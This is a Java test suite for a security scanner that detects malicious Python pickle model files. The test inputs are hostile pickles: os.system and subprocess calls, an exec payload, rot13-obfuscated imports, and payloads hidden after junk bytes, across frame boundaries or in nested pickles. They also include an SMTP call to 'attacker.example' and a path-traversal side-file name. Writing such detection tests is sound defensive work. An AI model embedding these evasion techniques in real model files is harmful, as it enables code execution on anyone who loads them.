package dev.modelvet.format.pickle;

import static dev.modelvet.format.pickle.Scans.any;
import static dev.modelvet.format.pickle.Scans.rule;
import static dev.modelvet.format.pickle.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.modelvet.scan.ArtifactResult;
import dev.modelvet.scan.Severity;
import dev.modelvet.scan.Verdict;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PickleScannerTest {

    @Test
    void stackGlobalCallIsCriticalWithArgumentEvidence() {
        byte[] p = Pickles.proto(4).call("os", "system", "echo pwned").stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(r.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(rule(r, "pickle-os-command")).get().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
            assertThat(f.evidence()).isEqualTo("os.system('echo pwned')");
            assertThat(f.message()).contains("called");
        });
    }

    @Test
    void protocolZeroGlobalAndInst() {
        byte[] global = Pickles.p0().global("posix", "system").ascii("(S'id'\ntR.").bytes();
        assertThat(any(scan(global), Severity.CRITICAL, "posix.system('id')")).isTrue();
        byte[] inst = Pickles.p0().ascii("(S'id'\nios\nsystem\n.").bytes();
        assertThat(any(scan(inst), Severity.CRITICAL, "os.system('id')")).isTrue();
    }

    @Test
    void stackGlobalOperandsResolvedFromMemoNotFromPreviousOpcodes() {
        // B01: the strings that reach STACK_GLOBAL come from memo slots filled earlier and out of order.
        byte[] p = Pickles.proto(4)
                .sbu("os").binput(2).op('0')
                .sbu("torch").binput(0).op('0')
                .sbu("system").binput(3).op('0')
                .sbu("LongStorage").binput(1).op('0')
                .binget(2).binget(3).op(0x93)
                .sbu("id").tuple1().reduce().stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(any(r, Severity.CRITICAL, "os.system('id')")).isTrue();
        assertThat(r.findings()).noneMatch(f -> f.evidence().contains("LongStorage"));
    }

    @Test
    void stackGlobalFedByProtocolZeroStrings() {
        // B02: STRING operands and no PROTO opcode.
        byte[] p = Pickles.p0().ascii("S'os'\nS'system'\n").op(0x93).ascii("S'ls'\n").op(0x85).op('R').op('.').bytes();
        assertThat(any(scan(p), Severity.CRITICAL, "os.system('ls')")).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"torch|os.system", "pathlib|os.system", "numpy|sys.modules", "collections|os.system",
            "shutil|os.system", "tempfile|_os.system", "argparse._os|system", "collections|_sys.modules",
            "torch.serialization|_subprocess.Popen", "zipfile|_builtins.eval"})
    void dottedNamesWalkingToDangerousModules(String spec) {
        String[] parts = spec.split("\\|");
        byte[] p = Pickles.proto(4).stackGlobal(parts[0], parts[1]).sbu("x").tuple1().reduce().stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(r.maxSeverity()).isEqualTo(Severity.CRITICAL);
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
            assertThat(f.message()).contains("resolves to");
        });
    }

    /** Library functions that evaluate strings (pandas/numexpr/sympy eval, Tcl) or load further models. */
    @ParameterizedTest
    @ValueSource(strings = {"pandas|eval", "pandas.core.frame|DataFrame.query", "numexpr|evaluate", "sympy|sympify",
            "tkinter|Tcl", "tensorflow.keras.models|load_model", "tf_keras.models|load_model", "statsmodels.formula.api|ols",
            "patsy|dmatrix", "_interpreters|run_string", "_xxsubinterpreters|run_string", "concurrent.interpreters|create"})
    void stringEvaluatingLibraryFunctionsAreCritical(String spec) {
        String[] parts = spec.split("\\|");
        byte[] p = Pickles.proto(4).call(parts[0], parts[1], "__import__('os').system('id')").stop().bytes();
        assertThat(scan(p).maxSeverity()).isEqualTo(Severity.CRITICAL);
    }

    /** STACK_GLOBAL operands computed by allow-listed calls: rot13 via _codecs.encode, str(bytes, 'latin1'), str(str). */
    @Test
    void importNamesComputedByAllowedCallsAreFollowed() {
        byte[] rot13 = Pickles.proto(4)
                .stackGlobal("_codecs", "encode").sbu("bf").sbu("rot13").op(0x86).reduce()
                .stackGlobal("_codecs", "encode").sbu("flfgrz").sbu("rot_13").op(0x86).reduce()
                .op(0x93).sbu("id").tuple1().reduce().stop().bytes();
        assertThat(any(scan(rot13), Severity.CRITICAL, "os.system('id')")).isTrue();

        byte[] strOfBytes = Pickles.proto(4)
                .stackGlobal("builtins", "str").shortBinbytes("posix".getBytes(StandardCharsets.US_ASCII)).sbu("latin-1").op(0x86).reduce()
                .stackGlobal("builtins", "str").sbu("system").tuple1().reduce()
                .op(0x93).sbu("id").tuple1().reduce().stop().bytes();
        assertThat(any(scan(strOfBytes), Severity.CRITICAL, "posix.system('id')")).isTrue();

        // An encoding whose result is not modelled leaves the name unknown: HIGH, never a mere parse error.
        byte[] other = Pickles.proto(4)
                .stackGlobal("_codecs", "encode").sbu("os").sbu("utf-16").op(0x86).reduce()
                .sbu("system").op(0x93).sbu("id").tuple1().reduce().stop().bytes();
        ArtifactResult r = scan(other);
        assertThat(r.maxSeverity()).isEqualTo(Severity.HIGH);
        assertThat(rule(r, "pickle-unresolved-global")).isPresent();
    }

    /** CPython pickles classmethods as getattr(Class, 'name'): zoneinfo time zones in pandas frames do this. */
    @Test
    void getattrOfAnAllowListedAttributeIsALookupNotACall() {
        byte[] zone = Pickles.proto(4).stackGlobal("builtins", "getattr").memoize()
                .stackGlobal("zoneinfo", "ZoneInfo").sbu("_unpickle").op(0x86).reduce()
                .sbu("Asia/Tokyo").binint1(1).op(0x86).reduce().stop().bytes();
        ArtifactResult r = scan(zone);
        assertThat(r.verdict()).isEqualTo(Verdict.CLEAN);
        assertThat(rule(r, "pickle-attribute-lookup")).get().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.INFO));

        // Attributes that are not allow-listed, dunder walks and getattr passed to a helper that calls it stay critical.
        byte[] method = Pickles.proto(4).stackGlobal("builtins", "getattr")
                .stackGlobal("numpy", "ndarray").sbu("tofile").op(0x86).reduce().stop().bytes();
        assertThat(scan(method).maxSeverity()).isEqualTo(Severity.CRITICAL);
        byte[] dunder = Pickles.proto(4).stackGlobal("builtins", "getattr")
                .stackGlobal("zoneinfo", "ZoneInfo").sbu("__init__").op(0x86).reduce().stop().bytes();
        assertThat(scan(dunder).maxSeverity()).isEqualTo(Severity.CRITICAL);
        byte[] mixed = Pickles.proto(4).stackGlobal("builtins", "getattr").binput(0)
                .stackGlobal("zoneinfo", "ZoneInfo").sbu("_unpickle").op(0x86).reduce().op('0')
                .binget(0).stackGlobal("builtins", "str").sbu("x").tuple1().reduce().sbu("y").op(0x86).reduce().stop().bytes();
        assertThat(scan(mixed).maxSeverity()).isEqualTo(Severity.CRITICAL);
        byte[] passed = Pickles.proto(4).stackGlobal("torch._tensor", "_rebuild_from_type_v2")
                .op('(').stackGlobal("builtins", "getattr").stackGlobal("torch", "Tensor")
                .op('(').stackGlobal("zoneinfo", "ZoneInfo").sbu("_unpickle").op('t').op('}').op('t').reduce().stop().bytes();
        assertThat(scan(passed).maxSeverity()).isEqualTo(Severity.CRITICAL);
    }

    /** torch 1.x OneCycleLR keeps getattr(self, '_annealing_cos') in its state dict. */
    @Test
    void aBoundMethodOfAnAllowListedInstanceIsData() {
        byte[] sched = Pickles.proto(2).global("__builtin__", "getattr")
                .global("torch.optim.lr_scheduler", "OneCycleLR").op(')').op(0x81) // NEWOBJ: cls.__new__(cls)
                .sbu("_annealing_cos").op(0x86).reduce().stop().bytes();
        assertThat(scan(sched).verdict()).isEqualTo(Verdict.CLEAN);
        // ... but calling such a method while loading is a dynamic call, and so is handing it to a helper that calls it.
        byte[] called = Pickles.proto(2).global("__builtin__", "getattr")
                .global("pathlib", "PosixPath").sbu("/home/u/.bashrc").tuple1().reduce()
                .sbu("write_text").op(0x86).reduce().sbu("x").tuple1().reduce().stop().bytes();
        assertThat(scan(called).maxSeverity()).isEqualTo(Severity.HIGH);
        byte[] handed = Pickles.proto(2).global("torch._tensor", "_rebuild_from_type_v2").op('(')
                .global("__builtin__", "getattr").global("pathlib", "PosixPath").sbu("/x").tuple1().reduce()
                .sbu("unlink").op(0x86).reduce()
                .global("torch", "Tensor").op(')').op('}').op('t').reduce().stop().bytes();
        assertThat(scan(handed).maxSeverity()).isEqualTo(Severity.HIGH);
    }

    /** functools.partial is data (fastai and sklearn pickles hold partials); what it wraps, and calling it, are judged. */
    @Test
    void partialIsJudgedByWhatItWrapsAndWhetherItIsCalled() {
        byte[] benign = Pickles.proto(4).stackGlobal("functools", "partial").stackGlobal("torch.optim", "Adam").tuple1().reduce()
                .stop().bytes();
        assertThat(scan(benign).verdict()).isEqualTo(Verdict.CLEAN);
        byte[] wrapsOs = Pickles.proto(4).stackGlobal("functools", "partial").stackGlobal("os", "system").tuple1().reduce()
                .stop().bytes();
        assertThat(scan(wrapsOs).maxSeverity()).isEqualTo(Severity.CRITICAL);
        byte[] called = Pickles.proto(4).stackGlobal("functools", "partial").stackGlobal("torch.optim", "Adam").tuple1().reduce()
                .sbu("x").tuple1().reduce().stop().bytes();
        assertThat(scan(called).maxSeverity()).isEqualTo(Severity.HIGH);
    }

    /** Python 3.12+ pickles members of global enums as getattr(EnumClass, 'NAME'). */
    @Test
    void enumMembersByNameAreLookups() {
        byte[] member = Pickles.proto(4).stackGlobal("builtins", "getattr").stackGlobal("re", "RegexFlag").sbu("IGNORECASE")
                .op(0x86).reduce().stop().bytes();
        assertThat(scan(member).verdict()).isEqualTo(Verdict.CLEAN);
        byte[] calledMember = Pickles.proto(4).stackGlobal("builtins", "getattr").stackGlobal("re", "RegexFlag").sbu("IGNORECASE")
                .op(0x86).reduce().sbu("x").tuple1().reduce().stop().bytes();
        assertThat(scan(calledMember).maxSeverity()).isEqualTo(Severity.HIGH);
        byte[] unknownOwner = Pickles.proto(4).stackGlobal("builtins", "getattr").stackGlobal("mylib", "Flags").sbu("RUN")
                .op(0x86).reduce().stop().bytes();
        assertThat(scan(unknownOwner).maxSeverity()).isEqualTo(Severity.CRITICAL);
    }

    /** Library allow patterns cover model classes, not the libraries' network or process corners. */
    @ParameterizedTest
    @ValueSource(strings = {"ultralytics.hub.session|HUBTrainingSession", "fastcore.parallel|ProcessPoolExecutor",
            "lightning.app.core|LightningWork", "xgboost.tracker|RabitTracker", "torchvision.datasets|MNIST",
            "ultralytics|YOLO", "sentence_transformers|SentenceTransformer", "transformers|AutoModel.from_pretrained",
            "transformers|pipeline", "diffusers|DiffusionPipeline.from_pretrained", "timm|create_model", "TTS.api|TTS",
            "pyannote.audio|Model.from_pretrained", "mmengine.runner|Runner", "mmengine.config|Config",
            "stable_baselines3|PPO.load", "fairseq.checkpoint_utils|load_checkpoint_to_cpu"})
    void dangerousCornersOfAllowListedLibrariesAreDenied(String spec) {
        String[] parts = spec.split("\\|");
        byte[] p = Pickles.proto(4).call(parts[0], parts[1], "x").stop().bytes();
        assertThat(scan(p).maxSeverity().atLeast(Severity.HIGH)).isTrue();
        assertThat(scan(p).findings()).noneMatch(f -> f.ruleId().startsWith("pickle-unknown"));
    }

    /** A user's dict subclass (class Config(dict)) pickles as NEWOBJ + SETITEMS: suspicious, not blocking. */
    @Test
    void anUnknownDictSubclassFilledBySetitemsIsSuspicious() {
        byte[] p = Pickles.proto(4).stackGlobal("__main__", "Config").op(')').op(0x81)
                .op('(').sbu("lr").binint1(1).op('u').stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(r.maxSeverity()).isEqualTo(Severity.MEDIUM);
        assertThat(rule(r, "pickle-implicit-call")).get().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.MEDIUM));
    }

    /** Globals that torch 2.6's weights_only refusals report for popular checkpoints (pyannote, mmengine, XTTS, timm). */
    @ParameterizedTest
    @ValueSource(strings = {"pyannote.audio.core.task|Specifications", "mmengine.logging.history_buffer|HistoryBuffer",
            "TTS.tts.configs.xtts_config|XttsConfig", "timm.layers.conv2d_same|Conv2dSame", "torch.utils.data.dataloader|DataLoader",
            "fairseq.data.dictionary|Dictionary", "stable_baselines3.common.policies|ActorCriticPolicy"})
    void classesFromPopularCheckpointsAreAllowed(String spec) {
        String[] parts = spec.split("\\|");
        byte[] p = Pickles.proto(2).global(parts[0], parts[1]).op(')').op(0x81).stop().bytes();
        assertThat(scan(p).verdict()).isEqualTo(Verdict.CLEAN);
    }

    /** DeepSpeed ZeRO checkpoints: ZeroStageEnum(2) and a LossScaler instance (the globals torch 2.6's weights_only refuses). */
    @Test
    void deepSpeedCheckpointGlobalsAreAllowed() {
        byte[] p = Pickles.proto(2).global("deepspeed.runtime.zero.config", "ZeroStageEnum").binint1(2).tuple1().reduce()
                .global("deepspeed.runtime.fp16.loss_scaler", "LossScaler").op(')').op(0x81).op(0x86).stop().bytes();
        assertThat(scan(p).verdict()).isEqualTo(Verdict.CLEAN);
    }

    /** pickle.dumps(type(None)) is builtins.type(None); the three-argument form builds a class and stays flagged. */
    @Test
    void typeOfAValueIsALookupButBuildingAClassIsNot() {
        byte[] noneType = Pickles.proto(4).stackGlobal("builtins", "type").op('N').tuple1().reduce().stop().bytes();
        assertThat(scan(noneType).verdict()).isEqualTo(Verdict.CLEAN);
        byte[] newClass = Pickles.proto(4).stackGlobal("builtins", "type").sbu("X").op(')').op('}').op(0x87).reduce().stop().bytes();
        assertThat(scan(newClass).maxSeverity()).isEqualTo(Severity.HIGH);
    }

    /** numpy.core._ufunc_reconstruct(module, name) imports like GLOBAL: judged by what it names. */
    @Test
    void ufuncReconstructIsJudgedByTheNameItImports() {
        byte[] ufunc = Pickles.proto(2).global("numpy.core", "_ufunc_reconstruct").sbu("numpy").sbu("log1p").op(0x86).reduce().stop().bytes();
        assertThat(scan(ufunc).verdict()).isEqualTo(Verdict.CLEAN);
        byte[] evil = Pickles.proto(2).global("numpy.core", "_ufunc_reconstruct").sbu("os").sbu("system").op(0x86).reduce()
                .sbu("id").tuple1().reduce().stop().bytes();
        assertThat(any(scan(evil), Severity.CRITICAL, "os.system")).isTrue();
    }

    /** A package's attribute is its submodule once imported: the walk also tries the joined module path. */
    @ParameterizedTest
    @ValueSource(strings = {"logging|config.listen", "numpy|f2py.compile", "importlib|util.spec_from_file_location"})
    void dottedNamesThroughSubmodules(String spec) {
        String[] parts = spec.split("\\|");
        byte[] p = Pickles.proto(4).stackGlobal(parts[0], parts[1]).sbu("x").tuple1().reduce().stop().bytes();
        assertThat(scan(p).maxSeverity()).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void aDunderWalkFromADeniedModuleIsStillCritical() {
        byte[] p = Pickles.proto(4).stackGlobal("shutil", "rmtree.__globals__").stop().bytes();
        assertThat(scan(p).maxSeverity()).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void dunderAttributeWalkIsCritical() {
        byte[] p = Pickles.proto(4).stackGlobal("collections", "OrderedDict.__init__.__globals__").stop().bytes();
        assertThat(rule(scan(p), "pickle-dunder-attribute")).get()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.CRITICAL));
    }

    @Test
    void buildOnModuleLevelObjectThenResolvedAttributeOperands() {
        // B06: BUILD writes numpy.prod.a='os', numpy.prod.b='system'; GLOBAL numpy prod.a yields 'os'.
        byte[] p = Pickles.proto(4)
                .global("numpy", "prod").op(')').op('}').sbu("a").sbu("os").op('s').sbu("b").sbu("system").op('s')
                .op(0x86).op('b').op('0')
                .global("numpy", "prod.a").global("numpy", "prod.b").op(0x93)
                .sbu("id").tuple1().reduce().stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(rule(r, "pickle-global-mutation")).isPresent();
        assertThat(any(r, Severity.CRITICAL, "os.system('id')")).isTrue();
    }

    @Test
    void callWhoseResultIsPoppedIsStillSeen() {
        // B10: OBJ result discarded with POP; a decompiler-based scanner loses it.
        byte[] p = Pickles.proto(2).op('(').global("smtplib", "SMTP").ascii("S'attacker.example'\n").op('o').op('0')
                .op('N').stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(rule(r, "pickle-network")).get().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
    }

    @Test
    void payloadBeforeInvalidOpcodeIsReportedWithTheError() {
        // B08: the loader runs REDUCE before it reaches the broken byte.
        byte[] p = Pickles.proto(4).call("os", "system", "id").op(0xff).bytes();
        ArtifactResult r = scan(p);
        assertThat(r.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(r.errors()).singleElement().satisfies(e -> assertThat(e.code()).isEqualTo("pickle-invalid-opcode"));
    }

    @Test
    void secondStreamAfterBenignFirstIsScanned() {
        byte[] first = Pickles.proto(2).op(']').stop().bytes();
        byte[] second = Pickles.proto(4).call("subprocess", "check_output", "id").stop().bytes();
        ArtifactResult r = scan(Pickles.p0().append(first).append(second).bytes());
        assertThat(any(r, Severity.CRITICAL, "subprocess.check_output")).isTrue();
        assertThat(r.errors()).isEmpty();
    }

    @Test
    void garbageAfterStopIsLowNotError() {
        byte[] p = Pickles.proto(2).op('N').stop().ascii("\u0001\u0002garbage").bytes();
        ArtifactResult r = scan(p);
        assertThat(r.errors()).isEmpty();
        assertThat(rule(r, "pickle-trailing-data")).get().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
        assertThat(r.verdict()).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void aProtocolZeroStreamBehindJunkIsFound() {
        byte[] p = Pickles.proto(2).op('N').stop().ascii("\u0001\u0002junk").ascii("cposix\nsystem\n(S'id'\ntR.").bytes();
        ArtifactResult r = scan(p);
        assertThat(any(r, Severity.CRITICAL, "posix.system('id')")).isTrue();
        assertThat(rule(r, "pickle-hidden-stream")).isPresent();
    }

    @Test
    void aStreamAfterABrokenFirstStreamIsFound() {
        byte[] p = Pickles.proto(4).op('N').ascii("\u00ff\u00fejunk").append(Pickles.proto(4).call("os", "system", "id").stop().bytes()).bytes();
        ArtifactResult r = scan(p);
        assertThat(r.errors()).isNotEmpty();
        assertThat(any(r, Severity.CRITICAL, "os.system('id')")).isTrue();
    }

    /** picklescan's broken_model.pkl: GLOBAL builtins.exec, then a BINUNICODE whose length is text. */
    @Test
    void aTextStartThatImportsADeniedGlobalIsAPickleEvenIfItBreaksAtOnce() {
        byte[] p = "cbuiltins\nexec\n(X>\nf = open('x', 'a'); f.write('y')".getBytes(StandardCharsets.ISO_8859_1);
        ArtifactResult r = scan(p);
        assertThat(r.maxSeverity()).isEqualTo(Severity.CRITICAL);
        assertThat(r.errors()).isNotEmpty();
        // ... while text whose first line merely starts with 'c' is not a pickle.
        assertThat(scan("cmake_minimum_required(VERSION 3.10)\nproject(x)\n".getBytes(StandardCharsets.US_ASCII)).format()).isNotEqualTo("pickle");
    }

    @Test
    void randomBytesAfterStopAreNotTakenForAHiddenStream() {
        java.util.Random random = new java.util.Random(7);
        byte[] junk = new byte[1 << 20];
        random.nextBytes(junk);
        junk[0] = 1;
        for (int i = 1000; i < junk.length; i += 4096) { // plant candidates: PROTO and text-GLOBAL look-alikes
            junk[i] = (byte) 0x80;
            junk[i + 1] = 4;
            System.arraycopy("cfoo\nbar\n".getBytes(StandardCharsets.US_ASCII), 0, junk, i + 100, 9);
        }
        byte[] p = Pickles.proto(2).op('N').stop().append(junk).bytes();
        ArtifactResult r = scan(p);
        assertThat(rule(r, "pickle-hidden-stream")).isEmpty();
        assertThat(r.verdict()).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void frameWhoseLengthDisagreesWithItsOpcodesIsAFinding() {
        byte[] body = Pickles.p0().op('N').stop().bytes();
        byte[] p = Pickles.proto(4).op(0x95).u64(1).op('C').raw(3).ascii("abc").op('0').append(body).bytes();
        ArtifactResult r = scan(p);
        assertThat(rule(r, "pickle-frame-mismatch")).get().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
    }

    @Test
    void frameStraddleIsAlsoScannedTheWayTheCUnpicklerReadsIt() {
        // B07: SHORT_BINBYTES' payload crosses the frame end. A linear parser reads the payload in place,
        // then NONE STOP; a loader that drops the frame tail takes the payload from the frame end and
        // goes on to execute os.system hidden after it. Both views are scanned.
        byte[] block = new byte[32];
        java.util.Arrays.fill(block, (byte) 'A');
        block[30] = 'N';
        block[31] = '.';
        byte[] hidden = Pickles.p0().op('0').call("os", "system", "id").stop().bytes();
        byte[] p = Pickles.proto(4).op(0x95).u64(6).op('N').op('0').op('C').raw(32).ascii("xx")
                .append(block).append(hidden).bytes();
        ArtifactResult r = scan(p);
        assertThat(rule(r, "pickle-frame-mismatch")).isPresent();
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.path()).contains("!frame-boundary-view@");
            assertThat(f.evidence()).isEqualTo("os.system('id')");
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
        });
    }

    @Test
    void nestedPickleBytesAreScannedAsChild() {
        byte[] inner = Pickles.proto(4).call("os", "system", "id").stop().bytes();
        byte[] p = Pickles.proto(4).stackGlobal("_pickle", "loads").binbytes(inner).tuple1().reduce().stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.path()).contains("!_pickle.loads@");
            assertThat(f.evidence()).isEqualTo("os.system('id')");
        });
    }

    @Test
    void nestedPickleBuiltWithCodecsEncodeAtProtocolTwo() {
        String inner = new String(Pickles.proto(2).global("os", "system").ascii("X").u32(2).ascii("id").op(0x85).op('R').stop().bytes(),
                StandardCharsets.ISO_8859_1);
        byte[] p = Pickles.proto(2).global("cPickle", "loads")
                .global("_codecs", "encode").binunicode(inner).binunicode("latin1").op(0x86).reduce()
                .tuple1().reduce().stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(r.findings()).anySatisfy(f -> assertThat(f.evidence()).isEqualTo("os.system('id')"));
    }

    @Test
    void unknownGlobalReferencedIsMediumAndCalledIsHigh() {
        byte[] ref = Pickles.proto(4).stackGlobal("mylib.models", "Net").stop().bytes();
        assertThat(scan(ref).maxSeverity()).isEqualTo(Severity.MEDIUM);
        assertThat(scan(ref).verdict()).isEqualTo(Verdict.SUSPICIOUS);
        byte[] call = Pickles.proto(4).call("mlflow.projects.backend.local", "_run_entry_point", "x").stop().bytes();
        assertThat(rule(scan(call), "pickle-unknown-callable")).get()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
    }

    @Test
    void allowListedGlobalsAreClean() {
        byte[] p = Pickles.proto(2).global("collections", "OrderedDict").op(')').reduce()
                .global("torch._utils", "_rebuild_tensor_v2").op('0')
                .global("__builtin__", "set").op('0').stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(r.verdict()).isEqualTo(Verdict.CLEAN);
        assertThat(r.maxSeverity()).isEqualTo(Severity.INFO);
    }

    @Test
    void extensionCodesAreHigh() {
        byte[] p = Pickles.proto(2).op(0x82).raw(7).ascii("S'id'\n").op(0x85).reduce().stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(rule(r, "pickle-extension-code")).isPresent();
        assertThat(rule(r, "pickle-dynamic-call")).isPresent();
    }

    @Test
    void malformedStreamsAreErrorsWithoutStackTraces() {
        assertThat(scan(Pickles.proto(2).op('X').u32(1000).ascii("short").bytes()).errors())
                .singleElement().satisfies(e -> assertThat(e.code()).isEqualTo("pickle-truncated"));
        assertThat(scan(Pickles.proto(2).op('t').stop().bytes()).errors())
                .singleElement().satisfies(e -> assertThat(e.code()).isEqualTo("pickle-stack-underflow"));
        assertThat(scan(Pickles.proto(2).binget(5).stop().bytes()).errors())
                .singleElement().satisfies(e -> assertThat(e.code()).isEqualTo("pickle-memo-missing"));
        assertThat(scan(Pickles.proto(6).op('N').stop().bytes()).errors())
                .singleElement().satisfies(e -> assertThat(e.code()).isEqualTo("pickle-unsupported-protocol"));
        assertThat(scan(Pickles.proto(2).op(0x8b).u32(0xFFFFFFF0L).stop().bytes()).errors())
                .singleElement().satisfies(e -> assertThat(e.message()).contains("negative"));
    }

    @Test
    void textThatIsNotAPickleIsSkipped() {
        ArtifactResult r = scan("# README\nThis model is great.\n".getBytes(StandardCharsets.US_ASCII));
        assertThat(r.skipped()).isTrue();
        assertThat(r.errors()).isEmpty();
        ArtifactResult json = scan("{\"architectures\": [\"BertModel\"]}".getBytes(StandardCharsets.US_ASCII));
        assertThat(json.skipped()).isTrue();
    }

    @Test
    void copyregReconstructorCallsItsBaseClass() {
        byte[] p = Pickles.proto(1).global("copy_reg", "_reconstructor").op('(').global("mylib", "Thing")
                .global("subprocess", "Popen").ascii("S'id'\n").op('t').reduce().stop().bytes();
        ArtifactResult r = scan(p);
        assertThat(rule(r, "pickle-subprocess")).get().satisfies(f -> assertThat(f.message()).contains("called"));
        byte[] benign = Pickles.proto(1).global("copy_reg", "_reconstructor").op('(').global("mylib", "Thing")
                .global("__builtin__", "object").op('N').op('t').reduce().stop().bytes();
        assertThat(scan(benign).maxSeverity()).isEqualTo(Severity.MEDIUM);
    }

    @Test
    void legacyJoblibWrapperIsSuspiciousAndItsEscapingSideFileDangerous() {
        byte[] local = Pickles.proto(2).global("joblib.numpy_pickle", "NDArrayWrapper").op(')').op(0x81)
                .op('}').binunicode("filename").binunicode("model.pkl_01.npy").op('s').op('b').op('.').bytes();
        assertThat(scan(local).maxSeverity()).isEqualTo(Severity.MEDIUM);
        byte[] escaping = Pickles.proto(2).global("joblib.numpy_pickle", "NDArrayWrapper").op(')').op(0x81)
                .op('}').binunicode("filename").binunicode("../../home/user/evil.npy").op('s').op('b').op('.').bytes();
        assertThat(rule(scan(escaping), "pickle-joblib-side-file-path")).isPresent();
        byte[] py2 = Pickles.p0().global("__builtin__", "xrange").ascii("(I0\nI3\ntR.").bytes();
        assertThat(scan(py2).verdict()).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void appendOnANonListCallsItsMethod() {
        byte[] p = Pickles.proto(2).global("mylib", "Thing").op(')').reduce().op('N').op('a').stop().bytes();
        assertThat(rule(scan(p), "pickle-implicit-call")).isPresent();
    }

    @Test
    void limitsStopHugeMemoWithAnError() {
        dev.modelvet.scan.Scanner small = dev.modelvet.scan.Scanner.builder()
                .limits(dev.modelvet.scan.Limits.defaults().withMaxMemoEntries(10)).build();
        Pickles p = Pickles.proto(4).op(']');
        for (int i = 0; i < 20; i++) p.op('N').memoize().op('0');
        ArtifactResult r = small.scan("memo.pkl", dev.modelvet.scan.ByteSource.of(p.stop().bytes()));
        assertThat(r.errors()).singleElement().satisfies(e -> assertThat(e.code()).isEqualTo("limit-pickle-memo"));
    }
}
